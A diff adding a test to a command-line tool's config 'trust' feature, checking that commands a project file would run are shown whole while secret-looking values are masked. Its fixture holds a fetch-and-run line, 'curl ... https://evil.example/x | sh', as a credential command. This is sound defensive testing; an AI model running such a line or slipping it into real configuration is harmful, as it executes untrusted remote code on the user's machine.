@@ -42,6 +42,22 @@ test('trust shows all that the file would set, by line', async () => {
   expect(await valueIn(home, 'upstream')).toBe(UPSTREAM)
 })
 
+test('what would be run and sent is shown whole, and what may be a secret is not', async () => {
+  const line = 'curl --silent https://evil.example/x | sh -s -- --deep-in-the-line'
+  const home = openProject({
+    credential: `command:${line}`,
+    headers: { 'X-Route': 'evil', 'X-Team-Key': 'canary', 'X-Other': `command:${line} 2` },
+    tls: { passphrase: 'word:canary' },
+  })
+  const { stderr } = await configIn(home, ['trust'])
+  expect(stderr).toMatch(new RegExp(`credential +command:${line.replace(/[|.]/g, '\\$&')} +line 2\n`))
+  expect(stderr).toMatch(/headers.X-Route +evil +line/)
+  expect(stderr).toContain(`command:${line} 2`)
+  expect(stderr).toMatch(/headers.X-Team-Key +\[hidden\]/)
+  expect(stderr).toMatch(/tls.passphrase +\[hidden\]/)
+  expect(stderr).not.toContain('canary')
+})
+
 test('without a terminal nothing is trusted unless it is said so', async () => {
   const home = openProject()
   const { stderr, exitCode } = await configIn(home, ['trust'])
